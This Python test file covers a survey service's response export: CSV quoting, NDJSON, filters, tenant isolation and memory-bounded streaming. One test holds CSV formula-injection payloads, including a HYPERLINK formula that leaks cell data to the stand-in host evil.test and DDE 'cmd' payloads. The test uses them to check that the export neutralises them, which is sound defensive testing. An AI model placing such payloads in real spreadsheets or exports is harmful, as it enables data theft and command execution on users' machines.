"""Export: RFC 4180 CSV and NDJSON, filters, tenant isolation, and bounded memory at 200 000."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import threading
import uuid
from datetime import date

import httpx

from infra.postgres.pool import create_pool
from tests.bench.data import answer_rows, copy_answers
from tests.bench.tools import Server
from tests.conftest import ADMIN_TOKEN, POOLED, POOLER_ENV, answers_on, make_tenant, post_batch

TRICKY = 'He said "fine", then:\nnothing, again'


async def test_csv_round_trips_with_rfc4180_quoting(app_client, tenant, survey_id) -> None:
    items = answers_on(survey_id, "2026-02-03", [3, 9], team="a, b")
    items[0]["comment"] = TRICKY
    await post_batch(app_client, tenant, items)
    r = await app_client.get("/v1/responses/export", headers=tenant.headers)
    assert r.status_code == 200
    assert r.headers["content-type"].startswith("text/csv")
    assert b"\r\n" in r.content
    rows = sorted(csv.DictReader(io.StringIO(r.text, newline="")), key=lambda x: x["score"])
    assert [x["score"] for x in rows] == ["3", "9"]
    assert rows[0]["comment"] == TRICKY and rows[0]["category"] == "detractor"
    assert json.loads(rows[0]["segments"]) == {"team": "a, b"}


FORMULAS = [
    '=HYPERLINK("http://evil.test/?leak="&A1, "click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


async def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(
    app_client, tenant, survey_id
) -> None:
    items = answers_on(survey_id, "2026-02-03", [0] * len(FORMULAS))
    for item, formula in zip(items, FORMULAS, strict=True):
        item |= {"comment": formula, "customer_id": formula[:255], "external_id": formula}
    items[0]["comment"] = "fine - and -5 is text"  # a dash inside text stays as it is
    await post_batch(app_client, tenant, items)
    r = await app_client.get("/v1/responses/export", headers=tenant.headers)
    rows = list(csv.DictReader(io.StringIO(r.text, newline="")))
    assert sorted(x["customer_id"] for x in rows) == sorted("'" + f for f in FORMULAS)
    assert sorted(x["external_id"] for x in rows) == sorted("'" + f for f in FORMULAS)
    assert sorted(x["comment"] for x in rows) == sorted(
        ["fine - and -5 is text"] + ["'" + f for f in FORMULAS[1:]]
    )
    assert {x["score"] for x in rows} == {"0"}
    ndjson = await app_client.get(
        "/v1/responses/export", params={"format": "ndjson"}, headers=tenant.headers
    )
    assert sorted(json.loads(x)["external_id"] for x in ndjson.text.splitlines()) == sorted(
        FORMULAS
    )  # only CSV is read by spreadsheets: NDJSON keeps the text as stored


async def test_ndjson_matches_the_listing_and_filters_apply(app_client, tenant, survey_id) -> None:
    await post_batch(
        app_client,
        tenant,
        answers_on(survey_id, "2026-02-03", [0, 10]) + answers_on(survey_id, "2026-03-03", [8]),
    )
    r = await app_client.get(
        "/v1/responses/export", params={"format": "ndjson"}, headers=tenant.headers
    )
    lines = [json.loads(x) for x in r.text.splitlines()]
    listed = (await app_client.get("/v1/responses", headers=tenant.headers)).json()["data"]
    assert sorted(lines, key=lambda x: x["id"]) == sorted(listed, key=lambda x: x["id"])
    march = await app_client.get(
        "/v1/responses/export",
        params={"format": "ndjson", "from": "2026-03-01", "category": "passive"},
        headers=tenant.headers,
    )
    assert [json.loads(x)["score"] for x in march.text.splitlines()] == [8]
    bad = await app_client.get(
        "/v1/responses/export", params={"format": "xml"}, headers=tenant.headers
    )
    assert bad.status_code == 422 and bad.json()["errors"][0]["field"] == "format"


async def test_export_of_another_tenant_is_empty(
    app_client, admin_headers, tenant, survey_id
) -> None:
    await post_batch(app_client, tenant, answers_on(survey_id, "2026-02-03", [5]))
    other = await make_tenant(app_client, admin_headers)
    r = await app_client.get("/v1/responses/export", headers=other.headers)
    assert r.text.strip().splitlines() == [r.text.strip().splitlines()[0]]  # the header only


def _tenant_on(server: Server) -> tuple[str, str, dict[str, str]]:
    """A tenant, key and survey created through the running server: (tenant, survey, auth)."""
    admin = {"Authorization": f"Bearer {ADMIN_TOKEN}"}
    t = httpx.post(f"{server.base}/v1/admin/tenants", json={"name": "Big"}, headers=admin)
    k = httpx.post(
        f"{server.base}/v1/admin/tenants/{t.json()['id']}/keys",
        headers=admin,
        json={"name": "k", "scopes": ["results:read", "manage"]},
    )
    auth = {"Authorization": f"Bearer {k.json()['key']}"}
    s = httpx.post(
        f"{server.base}/v1/surveys", json={"name": "S", "kind": "relational"}, headers=auth
    )
    return t.json()["id"], s.json()["id"], auth


def _stream_export(server: Server, auth: dict[str, str]) -> tuple[int, int, int, int]:
    """Stream the CSV export; returns (lines, bytes, RSS before, peak RSS while streaming)."""
    before, peak, stop = server.worker_rss(), [0], threading.Event()

    def sample() -> None:
        while not stop.wait(0.05):
            peak[0] = max(peak[0], server.worker_rss())

    sampler = threading.Thread(target=sample)
    sampler.start()
    lines = size = 0
    try:
        with httpx.stream(
            "GET", f"{server.base}/v1/responses/export", headers=auth, timeout=120
        ) as r:
            assert r.status_code == 200
            for chunk in r.iter_bytes():
                size += len(chunk)
                lines += chunk.count(b"\r\n")
    finally:
        stop.set()
        sampler.join()
    return lines, size, before, peak[0]


async def test_200000_answers_stream_in_bounded_memory(database_url, redis_url) -> None:
    """A real server streams a 200 000-answer CSV; its RSS grows by far less than the file."""
    server = Server(
        {
            "NPS_DATABASE_URL": database_url,
            "NPS_REDIS_URL": redis_url,
            "NPS_ADMIN_TOKEN": ADMIN_TOKEN,
            "NPS_LOG_LEVEL": "warning",
        }
        | POOLER_ENV
    )
    try:
        tenant_id, survey, auth = await asyncio.to_thread(_tenant_on, server)
        pool = await create_pool(database_url, size=2, transaction_pooler=POOLED)
        try:
            await copy_answers(
                pool,
                answer_rows(uuid.UUID(tenant_id), uuid.UUID(survey), 200_000, today=date.today()),
            )
        finally:
            await pool.close()
        lines, size, before, peak = await asyncio.to_thread(_stream_export, server, auth)
        print(
            f"export: {lines - 1} answers, {size / 2**20:.1f} MiB streamed, "
            f"worker RSS {before / 2**20:.1f} MiB -> peak {peak / 2**20:.1f} MiB"
        )
        assert lines == 200_001
        assert peak - before < 40 * 2**20 < size
    finally:
        server.stop()
